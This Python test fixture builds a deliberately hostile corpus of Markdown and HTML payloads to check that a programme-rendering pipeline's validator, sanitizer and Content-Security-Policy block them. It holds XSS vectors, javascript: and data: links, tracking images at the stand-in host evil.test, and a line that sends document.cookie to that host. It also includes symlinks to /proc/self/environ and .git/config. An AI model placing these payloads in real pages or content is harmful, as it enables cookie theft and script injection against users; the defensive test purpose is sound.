"""A hostile contributor's corpus: programme text and guides that try to reach a reader.

Used by tests/test_hostile.py. Every payload either runs script (``alert``), fetches from another
host (``evil.test``), or points a link at a dangerous scheme. None may work: each layer of the
pipeline (validator, escaping + sanitizer, Content-Security-Policy) is tested on its own.
"""

from __future__ import annotations

import yaml

EVIL = "evil.test"

# programme text: every family of the safety issue, in several spellings
PROGRAMME_PAYLOADS = [
    'Welcome.\n{: autofocus onfocus="alert(1)" }',
    "Circle member { onmouseover=alert(1) }",
    "Member {: onmouseover=alert(1) tabindex=0 }",
    "[the [real] page](javascript:alert(1))",
    r"[escaped \] bracket](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](&#106;avascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "Day <details/open/ontoggle=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<img src=x onerror=alert(1)>",
    f"<img src=x onerror=\"fetch('https://{EVIL}/'+document.cookie)\">",
    "<script>alert(1)</script>",
    "<svg onload=alert(1)>",
    f"<iframe src=https://{EVIL}/frame></iframe>",
    "    [r]: javascript:alert(1)\n\n[click][r]",
    "[click][r]\n\n    [r]: javascript:alert(1)",
    "[click][r]\n\n[r]: javascript:alert(1)",
    '[top](#x){: href="javascript:alert(1)" }',
    f'*x*{{: style="position:fixed;top:0;left:0;width:100%;height:100%;background:url(https://{EVIL}/o.png)" }}',
    f"![a [b] c](//{EVIL}/pixel.png)",
    f"![p](https://{EVIL}/p.png)",
    f"[![i](https://{EVIL}/i.png)](https://{EVIL}/)",
    "[d](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[f](file:///etc/passwd)",
    f"[p](//{EVIL}/protocol-relative)",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="#" onclick="alert(1)">x</a>',
    '"><script>alert(1)</script>',
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    '=== "Tab"\n    <script>alert(1)</script>',
    '!!! note "x"\n    <img src=x onerror=alert(1)>',
    "- [ ] <input onfocus=alert(1) autofocus>",
    "`<script>alert(1)</script>` in code",
    f"<style>body{{background:url(https://{EVIL}/s.png)}}</style>",
    f"<link rel=stylesheet href=https://{EVIL}/x.css>",
    f'<meta http-equiv=refresh content="0;url=https://{EVIL}/">',
    f"<base href=https://{EVIL}/>",
    f"<form action=https://{EVIL}/><button>go</button></form>",
    f"<object data=https://{EVIL}/x></object>",
    "<!--><script>alert(1)</script>-->",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    f'x\n\n<div markdown="1">*y* <img src=//{EVIL}/z.png></div>',
    "{{ 7*7 }} {% if true %}jinja{% endif %}",
]

# hand-written guides: file name -> Markdown
GUIDE_PAYLOADS = {
    "ref-image.md": f"# Ref image\n\n![a][r]\n\n[r]: https://{EVIL}/r.png\n",
    "unclosed-fence.md": f"# Fence\n\n```\ncode\n\n<img src=https://{EVIL}/f.png>\n",
    "list-html.md": f"# List\n\n- item\n\n    <img src=https://{EVIL}/l.png>\n",
    "input-image.md": f"# Input\n\n<input type=image src=https://{EVIL}/i.png>\n",
    "table-background.md": f"# Table\n\n<table background=https://{EVIL}/t.png><tr><td>x</td></tr></table>\n",
    "image-set.md": f"# Set\n\n<div style=\"background-image: image-set('https://{EVIL}/s.png' 1x)\">x</div>\n",
    "css-url.md": f"# Url\n\n<p style=\"background:url(//{EVIL}/u.png)\">x</p>\n",
    "script.md": "# Script\n\n<script>alert(1)</script>\n",
    "onerror.md": "# Onerror\n\n<img src=local.png onerror=alert(1)>\n",
    "iframe.md": f"# Iframe\n\n<iframe src=https://{EVIL}/></iframe>\n",
    "js-link.md": "# Link\n\n[x](javascript:alert(1))\n",
    "data-link.md": "# Data\n\n[x](data:text/html,hi)\n",
    "attr-list.md": '# Attr\n\nPara\n{: onclick="alert(1)" }\n',
    "style-element.md": f"# Style\n\n<style>@import url(https://{EVIL}/x.css);</style>\n",
    "meta-refresh.md": f"# Meta\n\n<meta http-equiv=refresh content='0;url=https://{EVIL}/'>\n",
    "svg-inline.md": f"# Svg\n\n<svg><image href=https://{EVIL}/x.png /></svg>\n",
    "video-poster.md": f"# Video\n\n<video poster=https://{EVIL}/p.png></video>\n",
    "srcset.md": f"# Srcset\n\n<img srcset='https://{EVIL}/a.png 1x'>\n",
    "link-element.md": f"# Link el\n\n<link rel=stylesheet href=https://{EVIL}/x.css>\n",
    "object.md": f"# Object\n\n<object data=https://{EVIL}/o></object>\n",
    "ontoggle.md": "# Toggle\n\n<details open ontoggle=alert(1)>x</details>\n",
    "form.md": f"# Form\n\n<form action=https://{EVIL}/><input name=a></form>\n",
    "md-in-html.md": f"# Md in html\n\n<div markdown>\n![x](https://{EVIL}/m.png)\n</div>\n",
    "autofocus.md": "# Focus\n\n<input autofocus onfocus=alert(1)>\n",
}
GUIDE_BAD_FILES = {  # refused as files, whatever they hold
    "<svg onload=alert(1)>.md": "# Name\n",
    "page.html": "<script>alert(1)</script>",
    "style.css": f"@import url(https://{EVIL}/x.css);",
    "drawing.svg": "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
}
GUIDE_SYMLINKS = {"env.md": "/proc/self/environ", "git-config.md": "../.git/config"}


def one_line(text: str) -> str:
    return " ".join(text.split())


def hostile_programme(programme_id: str = "hostile", sessions: int | None = None) -> str:
    """One valid programme whose every free-text field carries payloads.

    By default one session per payload (each session's title, purpose, steps … carry it); with
    ``sessions=N`` fewer sessions, each holding every payload in its lists (for quick PDFs).
    """
    p = PROGRAMME_PAYLOADS
    per_session = [(i, payload) for i, payload in enumerate(p, 1)] if sessions is None else \
        [(i, "\n\n".join(p)) for i in range(1, sessions + 1)]
    sessions = []
    for i, payload in per_session:
        sessions.append({
            "number": i,
            "title": f"S{i} {one_line(payload)}",
            "purpose": payload,
            "prep": {"mentor": [payload], "all": [payload]},
            "agenda": [{"minutes": 10, "step": payload, "lead": "mentor"}],
            "exercises": {"mentee": [{"title": one_line(payload), "steps": [payload], "notes": payload}]},
            "prompts": [payload],
            "reflection": [payload],
            "commitments": [payload],
        })
    data = {
        "id": programme_id,
        "title": "Hostile </title><script>alert(1)</script> {: onclick=alert(1) }",
        "version": "1.0.0",
        "model": "one-to-one",
        "summary": "\n\n".join(p[:12]),
        "purpose": {"statement": p[0], "organisational_goals": p[:10],
                    "outcomes": [{"role": "mentor", "learns": p[3], "evidence": p[4]},
                                 {"role": "mentee", "learns": p[5], "evidence": p[6]}]},
        "roles": [{"id": "mentor", "title": "Circle member { onmouseover=alert(1) }", "description": p[1],
                   "responsibilities": p, "benefits": p[:5], "hours_per_week": 1},
                  {"id": "mentee", "title": "Day <details/open/ontoggle=alert(1)>", "description": p[11],
                   "responsibilities": p[:5]}],
        "schedule": {"cadence": "weekly", "session_minutes": 60, "pilot_size": one_line(p[2])},
        "goal_format": {"name": "custom", "owner": "mentee",
                        "fields": [{"key": "aim", "label": one_line(p[12]), "prompt": p[13]}],
                        "examples": [{"aim": p[14]}]},
        "training": [{"id": "t", "title": one_line(p[15]), "for": ["mentor"], "objectives": p,
                      "exercises": [{"title": one_line(p[16]), "steps": p[:8]}]}],
        "confidentiality": {"norms": p, "exceptions": p[:4], "administrator_sees": p[17], "agreement": p[18]},
        "agreement": {"clauses": p},
        "sessions": sessions,
        "checkins": [{"after_session": 1, "title": one_line(p[19]), "with": ["mentor", "mentee"], "questions": p}],
        "cohorts": [{"name": one_line(p[21]), "start": "2027-01-11", "time": "09:30", "zone": "Europe/Paris"},
                    {"name": "Autumn </a><img src=x onerror=alert(1)> & {: .x }", "start": "2031-09-01"}],
        "evaluation": {"questions": p, "measures": p[:3]},
        "recognition": {"certificate": True, "criteria": p[20]},
        "changelog": [{"version": "1.0.0", "date": "2026-11-01", "changes": p}],
    }
    return yaml.safe_dump(data, allow_unicode=True, sort_keys=False, width=10_000)
